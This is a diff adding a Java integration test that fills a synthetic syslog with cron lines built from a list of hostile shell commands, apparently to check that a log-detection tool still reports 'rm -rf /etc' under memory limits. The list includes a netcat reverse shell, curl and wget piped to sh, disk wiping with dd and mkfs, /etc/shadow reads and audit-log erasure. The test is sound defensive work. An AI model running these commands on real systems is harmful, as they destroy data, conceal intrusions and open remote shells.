@@ -165,6 +165,47 @@ final class SmallMemoryIT {
   }
 
   @Test
+  void linesThatEachMatchOtherRulesFit() throws IOException {
+    String[] commands = {
+      "rm -rf /var/log/audit/audit.log",
+      "systemctl stop auditd",
+      "iptables -F",
+      "history -c",
+      "chmod 4755 /tmp/x",
+      "useradd -o -u 0 x",
+      "crontab -r",
+      "cat /etc/shadow",
+      "dmesg -C",
+      "curl http://192.0.2.1/x | sh",
+      "sh -c 'wget -O- 192.0.2.1 | sh'",
+      "mkfs.ext4 /dev/sda1",
+      "dd if=/dev/zero of=/dev/sda",
+      "journalctl --vacuum-size=1",
+      "nc -e /bin/sh 192.0.2.1 1",
+      "python3 -m http.server",
+      "nmap 192.0.2.0/24",
+      "find / -perm -4000",
+      "rm -rf /etc",
+      "shred /var/log/syslog",
+      "setenforce 0",
+      "insmod /tmp/x.ko",
+      "xmrig -o pool",
+      "passwd -d root"
+    };
+    Random random = new Random(5);
+    try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(log))) {
+      for (int line = 0; line < 120_000; line++) {
+        StringBuilder text = new StringBuilder("Nov 21 12:00:00 web1 x[1]: (root) CMD (");
+        for (String command : commands) {
+          text.append(random.nextBoolean() ? command + "; " : "");
+        }
+        out.write((text + ")\n").getBytes(StandardCharsets.UTF_8));
+      }
+    }
+    assertReports("rm -rf /etc");
+  }
+
+  @Test
   void aSummaryOfMillionsOfEmptyLinesFits() throws IOException {
     Files.writeString(directory.resolve("conf"), "SYSLOGSUMMARY=1\n", StandardOpenOption.APPEND);
     repeat("\n", 3_000_000);
